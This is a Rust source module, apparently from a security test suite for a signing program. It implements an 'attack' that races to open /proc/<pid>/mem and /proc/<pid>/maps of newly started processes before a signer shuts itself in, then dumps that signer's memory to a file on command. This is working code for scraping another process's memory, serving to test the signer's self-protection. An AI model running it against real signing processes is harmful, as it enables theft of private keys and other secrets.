//! Being there before a signer has shut itself in.

use std::{
    collections::BTreeMap,
    ffi::OsString,
    fs::{self, File},
    io::{self, Read as _, Write as _},
    path::Path,
    sync::mpsc::{self, TryRecvError},
    thread,
};

use super::{Got, is_signer, look};

pub(super) fn attack(what: &str, words: &[OsString]) -> Got {
    match what {
        "memory" => memory(Path::new(words.first().map_or("", |word| word.to_str().unwrap_or_default()))),
        other => Err(io::Error::other(format!("no attack {other}"))),
    }
}

/// Opens the memory of each process as it comes to life, and reads it when it is told to, by a line: an open file of
/// `/proc` stays readable whatever its process says later.
fn memory(out: &Path) -> Got {
    let (said, heard) = mpsc::channel();
    thread::spawn(move || io::stdin().lines().map_while(Result::ok).try_for_each(|line| said.send(line)));
    let mut held: BTreeMap<u32, (File, File)> = BTreeMap::new();
    println!("watching");
    io::stdout().flush()?;
    loop {
        match heard.try_recv() {
            Ok(_) => {
                let mut read = 0;
                for (pid, (mut maps, memory)) in std::mem::take(&mut held) {
                    let mut text = String::new();
                    if is_signer(pid) && maps.read_to_string(&mut text).is_ok() && !text.is_empty() {
                        look::copy_memory(out, &text, &memory)?;
                        read += 1;
                    }
                }
                println!("read {read}");
                io::stdout().flush()?;
            }
            Err(TryRecvError::Empty) => {}
            Err(TryRecvError::Disconnected) => return Ok(None),
        }
        let newest = fs::read_to_string("/proc/loadavg")?;
        let newest: u32 =
            newest.split_whitespace().last().and_then(|pid| pid.parse().ok()).unwrap_or_default();
        for pid in newest.saturating_sub(2)..newest + 4 {
            if !held.contains_key(&pid)
                && let Ok(memory) = File::open(format!("/proc/{pid}/mem"))
                && let Ok(maps) = File::open(format!("/proc/{pid}/maps"))
            {
                held.insert(pid, (maps, memory));
            }
        }
    }
}
